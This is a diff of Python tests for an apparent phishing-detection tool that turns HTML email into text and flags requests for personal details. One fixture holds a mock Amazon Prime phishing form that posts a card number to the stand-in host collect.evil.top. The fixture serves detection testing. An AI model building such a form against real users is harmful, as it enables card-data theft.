@@ -314,21 +314,23 @@ def test_s36_a_fee_or_a_prize_alone_is_not_named(text: str) -> None:
     "tag", ["section", "article", "header", "footer", "th", "dt", "dd", "blockquote", "form"]
 )
 def test_s38_two_blocks_are_two_lines(tag: str) -> None:
-    from primehelp.message_html import reduce_html
+    from primehelp.message_html import reduce_html_seen
 
-    text, _ = reduce_html(f"<html><body><{tag}>カード番号</{tag}><{tag}>送信</{tag}></body></html>")
+    text, _, _ = reduce_html_seen(
+        f"<html><body><{tag}>カード番号</{tag}><{tag}>送信</{tag}></body></html>"
+    )
     assert "カード番号送信" not in text.replace(" ", "")
     assert "カード番号" in text and "送信" in text
 
 
 def test_s38_a_form_reads_as_one_sentence_of_its_controls() -> None:
-    from primehelp.message_html import reduce_html
+    from primehelp.message_html import reduce_html_seen
 
     html = (
         '<form action="https://collect.evil.top/post"><label>カード番号</label><input name="c">'
         "<button>送信</button></form><p>Amazonプライム</p>"
     )
-    text, _ = reduce_html(html)
+    text, _, _ = reduce_html_seen(html)
     assert next(line for line in text.split("\n") if line) == "カード番号 ／ 送信", text
     mail = f"From: x@example.com\nSubject: x\nContent-Type: text/html; charset=UTF-8\n\n{html}\n"
     (sign,) = [f for f in _data("-", stdin=mail)["red_flags"] if f["kind"] == "asks_for_details"]
